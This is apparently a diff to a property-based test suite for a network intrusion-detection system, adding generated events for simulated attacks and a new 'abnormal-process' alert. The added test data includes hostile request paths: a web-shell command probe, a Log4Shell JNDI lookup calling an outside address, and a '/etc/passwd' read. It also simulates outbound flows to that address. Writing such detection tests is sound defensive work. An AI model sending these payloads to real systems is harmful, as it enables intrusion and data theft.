@@ -146,6 +146,24 @@ const event: fc.Arbitrary<SensorEvent> = fc.oneof(
       .map(([of, method]) => http({ ...of, host: 'card-bank.example', method })),
   },
   {
+    weight: 2,
+    arbitrary: fc
+      .tuple(
+        ends,
+        fc.constantFrom('/x.php?cmd=id', '/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D', '/?f=/etc/passwd'),
+        fc.nat(2),
+      )
+      .map(([of, path, luck]) => http({ ...of, path, status: luck === 0 ? 404 : 200 })),
+  },
+  {
+    weight: 3,
+    arbitrary: fc
+      .tuple(ends, fc.boolean())
+      .map(([{ source, target, ...of }, isBack]) =>
+        flow({ ...of, source: target, target: isBack ? source : '198.51.100.7', outcome: 'answered' }),
+      ),
+  },
+  {
     weight: 3,
     arbitrary: fc
       .tuple(ends, fc.integer({ min: -120, max: 120 }), fc.nat(20), fc.constantFrom('/.env', '/wp-login.php', '/old'))
@@ -317,6 +335,7 @@ describe('what is finally said does not depend on how the events came', () => {
       .sample(trace, { numRuns: 200, seed: 7 })
       .flatMap((events) => alertsOf(events, { intelligence }).map(({ kind }) => kind))
     expect([...new Set(kinds)].sort()).toEqual([
+      'abnormal-process',
       'brute-force-failure',
       'brute-force-success',
       'cleartext-credentials',
